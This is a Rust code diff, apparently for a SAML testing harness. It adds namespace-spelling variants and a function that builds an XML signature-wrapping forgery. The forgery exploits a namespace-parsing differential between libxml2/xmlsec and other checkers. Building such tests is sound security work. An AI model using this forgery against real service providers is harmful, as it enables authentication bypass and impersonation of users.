@@ -14,6 +14,7 @@ use openssl::x509::{X509Builder, X509NameBuilder, X509};
 
 use super::dsig::SigningMaterial;
 use super::sp::{AcsEndpoint, ServiceProvider, SpSettings};
+use super::writer::El;
 
 pub struct Keypair {
     pub pkey: PKey<Private>,
@@ -211,4 +212,38 @@ pub fn xmlsec_verify(xml: &str, cert: &X509, node: Option<&str>) -> Result<bool,
     } else {
         Err(String::from_utf8_lossy(&out.stderr).to_string())
     }
+}
+
+/// Spellings of the XML-DSig namespace that libxml2 reads as `http://www.w3.org/2000/09/xmldsig#`
+/// (it expands character references in namespace declarations) while a parser that keeps
+/// `xmlns` values raw does not.
+pub const DSIG_NS_SPELLINGS: &[&str] = &[
+    "http://www.w3.org/2000/09/xmldsig&#35;",
+    "http://www.w3.org/2000/09/xmldsig&#x23;",
+    "http://www.w3.org/2000/09/xmldsig&#x0023;",
+    "http&#x3a;//www.w3.org/2000/09/xmldsig#",
+    "&#104;ttp://www.w3.org/2000/09/xmldsig#",
+];
+
+/// The signature-wrapping forgery through a namespace differential: `genuine` (a message the SP
+/// really signed, canonical, no XML declaration) gets its `xmlns:ds` written as `spelling`
+/// (still a valid signature for libxml2/xmlsec), and is hidden in the Extensions of `forged`,
+/// which carries a signature of its own made with a key the SP never had, placed after it.
+/// A checker that sees only the forged signature and a verifier that finds the genuine one
+/// first would accept the forged message.
+pub fn namespace_differential_forgery(genuine: &str, spelling: &str, forged: El) -> String {
+    let hidden = genuine.replace(
+        r#"xmlns:ds="http://www.w3.org/2000/09/xmldsig#""#,
+        &format!(r#"xmlns:ds="{spelling}""#),
+    );
+    assert_ne!(hidden, genuine, "the genuine message declares xmlns:ds");
+    let mut forged = forged;
+    super::dsig::sign_enveloped(&mut forged, 1, &idp_next().material()).unwrap();
+    let forged = forged.to_canonical();
+    let at = forged.find("</saml:Issuer>").unwrap() + "</saml:Issuer>".len();
+    format!(
+        "{}<samlp:Extensions>{hidden}</samlp:Extensions>{}",
+        &forged[..at],
+        &forged[at..]
+    )
 }
